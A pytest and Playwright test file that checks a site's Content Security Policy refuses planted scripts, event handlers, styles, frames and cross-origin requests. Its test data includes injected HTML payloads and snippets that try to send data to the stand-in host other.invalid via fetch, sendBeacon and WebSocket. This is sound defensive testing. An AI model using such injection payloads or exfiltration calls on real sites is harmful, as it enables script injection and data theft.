"""What the policy of a page is for: scripts, styles and requests that someone planted are refused by the browser."""

import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from ...support.visiting.faulty_host import FaultyHost, serving
from .. import form, visits

COLLECT = """window.refused = [];
document.addEventListener('securitypolicyviolation', ({effectiveDirective, blockedURI}) => {
    refused.push(`${effectiveDirective} ${blockedURI}`) })"""
OTHER = "https://other.invalid"
PAGES = {"check": "check/certification/", "lost": "404.html"}
HASH = re.compile(r"'sha256-.")

PLANTED: dict[str, tuple[str, list[str]]] = {
    "a script": ("<script>planted = 1</script>", ["script-src-elem inline"]),
    "a foreign script": (f"<script src='{OTHER}/a.js'></script>", [f"script-src-elem {OTHER}/a.js"]),
    "a foreign module": (f"<script type='module' src='{OTHER}/a.mjs'></script>", [f"script-src-elem {OTHER}/a.mjs"]),
    "a script as data": ("<script src='data:,planted=1'></script>", ["script-src-elem data"]),
    "a handler": ("<img src='data:,' onerror='planted = 1'>", ["script-src-attr inline"]),
    "a style": ("<style>body { display: none }</style>", ["style-src-elem inline"]),
    "a style in an attribute": ("<p style='display: none'>", ["style-src-attr inline"]),
    "a foreign style": (f"<link rel='stylesheet' href='{OTHER}/a.css'>", [f"style-src-elem {OTHER}/a.css"]),
    "a foreign picture": (f"<img src='{OTHER}/a.png' alt=''>", [f"img-src {OTHER}/a.png"]),
    "a frame": (f"<iframe src='{OTHER}/'></iframe>", [f"frame-src {OTHER}"]),
    "an object": (f"<object data='{OTHER}/'></object>", [f"object-src {OTHER}"]),
    "another base": (f"<base href='{OTHER}/'>", [f"base-uri {OTHER}/"]),
}

DONE_BY_A_SCRIPT = {
    "eval('planted = 1')": "script-src eval",
    "new Function('planted = 1')": "script-src eval",
    "setTimeout('planted = 1')": "script-src eval",
    f"fetch('{OTHER}/').catch(() => 0)": f"connect-src {OTHER}/",
    f"navigator.sendBeacon('{OTHER}/', 'answers')": f"connect-src {OTHER}/",
    f"new WebSocket('{OTHER.replace('https', 'wss')}/')": f"connect-src {OTHER.replace('https', 'wss')}/",
    f"import('{OTHER}/a.mjs').catch(() => 0)": f"script-src-elem {OTHER}/a.mjs",
    "new Worker(URL.createObjectURL(new Blob(['']))).terminate()": "worker-src blob",
    f"const f = document.createElement('form'); f.action = '{OTHER}/'; document.body.append(f); f.submit()": (
        f"form-action {OTHER}/?"
    ),
}


@pytest.fixture
def host() -> Iterator[FaultyHost]:
    """The built site at a root, where the page for missing addresses finds its files without knowing its address."""
    with serving(FaultyHost(visits.SITE)) as host:
        yield host


@pytest.fixture
def page(browser: Browser, host: FaultyHost) -> Iterator[Page]:
    """A visitor's page that notes what its policy refuses; no request may leave the host."""
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    with visits.visitor(browser, host.address, service_workers="block") as (context, _):
        context.add_init_script(COLLECT)
        context.route(lambda url: not url.startswith(host.address) and not url.startswith(("blob:", "data:")), note)
        yield context.new_page()
    assert asked == []


def plant(host: FaultyHost, path: str, change: Callable[[str], str]) -> None:
    """Send a page of the host otherwise than it was built."""
    file = host.site / path
    html = (file / "index.html" if file.is_dir() else file).read_text(encoding="utf-8")
    changed = change(html)
    assert changed != html
    host.spoil(f"^/{re.escape(path)}$", changed.encode())


def expect_refused(page: Page, expected: list[str]) -> None:
    """Wait until the policy has refused this and nothing else."""
    found: list[Any] = []

    def arrived() -> bool:
        found[:] = sorted(set(page.evaluate("refused")))
        return found == sorted(expected)

    for _ in range(50):
        if arrived():
            break
        page.wait_for_timeout(100)
    assert found == sorted(expected)
    assert page.evaluate("typeof planted") == "undefined"


def test_whatever_is_planted_in_a_page_is_refused(page: Page, host: FaultyHost) -> None:
    """In a check's page: each kind of markup by the directive that is there for it, and the check still answers."""
    refused = [each for _, expected in PLANTED.values() for each in expected]
    markup = "".join(html for html, _ in PLANTED.values())
    plant(host, PAGES["check"], lambda html: html.replace("<h1", f"{markup}<h1", 1))
    page.goto(f"{PAGES['check']}{visits.ANSWERS}")
    expect_refused(page, refused)
    visits.expect_answer(page)


@pytest.mark.parametrize("name", ["a script", "a foreign script", "a handler"])
def test_the_page_for_missing_addresses_is_guarded_too(page: Page, host: FaultyHost, name: str) -> None:
    """It is as easy to reach as any other."""
    markup, refused = PLANTED[name]
    plant(host, PAGES["lost"], lambda html: html.replace("<h1", f"{markup}<h1", 1))
    page.goto(PAGES["lost"])
    expect_refused(page, refused)


@pytest.mark.parametrize("path", PAGES.values(), ids=PAGES)
def test_a_script_whose_hash_is_wrong_is_refused(page: Page, host: FaultyHost, path: str) -> None:
    """One letter of a hash, or of a script, is enough: each inline script runs as it was built or not at all."""
    plant(host, path, lambda html: HASH.sub(lambda found: found[0][:-1] + ("B" if found[0][-1] == "A" else "A"), html))
    page.goto(path)
    expect_refused(page, ["script-src-elem inline"])
    plant(host, path, lambda html: re.sub(r"<script>(?=.)", "<script>planted = 1;", html))
    page.goto(path)
    expect_refused(page, ["script-src-elem inline"])


def test_a_script_that_got_in_can_send_nothing(page: Page) -> None:
    """Even code of the page itself may neither make code out of text nor reach another host."""
    page.goto("check/certification/")
    expect(page.locator("cor-check")).to_have_attribute("data-state", "ready", timeout=form.STARTS_WITHIN)
    for code, refused in DONE_BY_A_SCRIPT.items():
        page.evaluate("refused.length = 0")
        page.evaluate(f"() => void setTimeout(() => {{ {code} }})")  # what evaluates this may do more than a page
        expect_refused(page, [refused])
